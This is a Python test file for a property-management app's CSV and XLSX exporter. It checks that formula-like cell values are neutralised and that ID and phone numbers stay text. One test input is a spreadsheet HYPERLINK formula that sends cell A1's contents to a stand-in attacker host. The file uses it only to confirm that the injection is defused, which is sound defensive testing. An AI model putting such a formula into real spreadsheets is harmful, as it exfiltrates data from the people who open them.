"""Spreadsheet-safe exports, checked on the written bytes (the LibreOffice round trip is in
tests/acceptance/test_libreoffice_open.py)."""

from __future__ import annotations

import csv
from datetime import date

import pytest

from tests.services.conftest_complaints import intake, seed_roster as seed_complaint_roster
from tests.services.conftest_gate import gate_site, visitor  # noqa: F401
from wuye_tui.exports.exporter import export
from wuye_tui.exports.writers import csv_safe
from wuye_tui.services.complaints import intake as complaints
from wuye_tui.services.gate import visits as gate_visits

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+8613800138000", "'+8613800138000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"),
    ("11010519491231002X", "11010519491231002X"), ("510107199412163123", "\t510107199412163123"),
    ("05718888123", "\t05718888123"), ("1-2-301", "\t1-2-301"), ("2026-03-02", "\t2026-03-02"),
    ("12%", "\t12%"), ("3/4", "\t3/4"),
    ("张三", "张三"), ("京A12345", "京A12345"), ("3栋2单元1202", "3栋2单元1202"), ("", ""), ("K0102", "K0102"),
])
def test_csv_safe(value, written):
    assert csv_safe(value) == written


def test_visitor_csv_keeps_id_and_phone_text(gate_site, tmp_path):  # noqa: F811
    gate_visits.check_in(gate_site.guard, visitor(id_number="110101199003074477", phone="05718888123"))
    out = tmp_path / "v.csv"
    export(gate_site.sup, "visitors", date(2026, 3, 2), date(2026, 3, 2), "csv", out, reveal=True)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    row = list(csv.reader(out.open(encoding="utf-8-sig")))[1]
    assert row[5] == "\t110101199003074477", row
    assert row[6] == "\t0571-8888123", row  # a landline keeps its 0
    assert b"\t110101199003074477" in raw


def test_formula_in_complaint_is_neutralised_in_csv_and_text_in_xlsx(make_ctx, tmp_path):
    desk = make_ctx("front_desk")
    seed_complaint_roster(desk)
    complaints.add_complaint(desk, **intake(description=FORMULA, phone="05718888123"))
    desk = make_ctx("supervisor")
    out = tmp_path / "c.csv"
    export(desk, "complaints", date(2026, 3, 2), date(2026, 3, 2), "csv", out, reveal=True)
    row = list(csv.reader(out.open(encoding="utf-8-sig")))[1]
    assert "'" + FORMULA in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    xlsx = tmp_path / "c.xlsx"
    export(desk, "complaints", date(2026, 3, 2), date(2026, 3, 2), "xlsx", xlsx, reveal=True)
    from openpyxl import load_workbook

    ws = load_workbook(xlsx).worksheets[0]
    cells = [c for c in ws[3] if c.value is not None]
    desc = next(c for c in cells if c.value == FORMULA)
    assert desc.data_type == "s" and desc.number_format == "@"
    phone = next(c for c in cells if c.value == "0571-8888123")
    assert phone.data_type == "s" and phone.number_format == "@"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_register_xlsx_print_setup(gate_site, tmp_path):  # noqa: F811
    gate_visits.check_in(gate_site.guard, visitor())
    out = tmp_path / "v.xlsx"
    export(gate_site.sup, "visitors", date(2026, 3, 1), date(2026, 3, 2), "xlsx", out)
    from openpyxl import load_workbook

    ws = load_workbook(out).worksheets[0]
    assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth in (None, 1)  # 1 is the default
    assert ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$2:$2"
    assert "访客登记表" in ws.oddHeader.left.text and "2026-03-01" in ws.oddHeader.right.text
    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
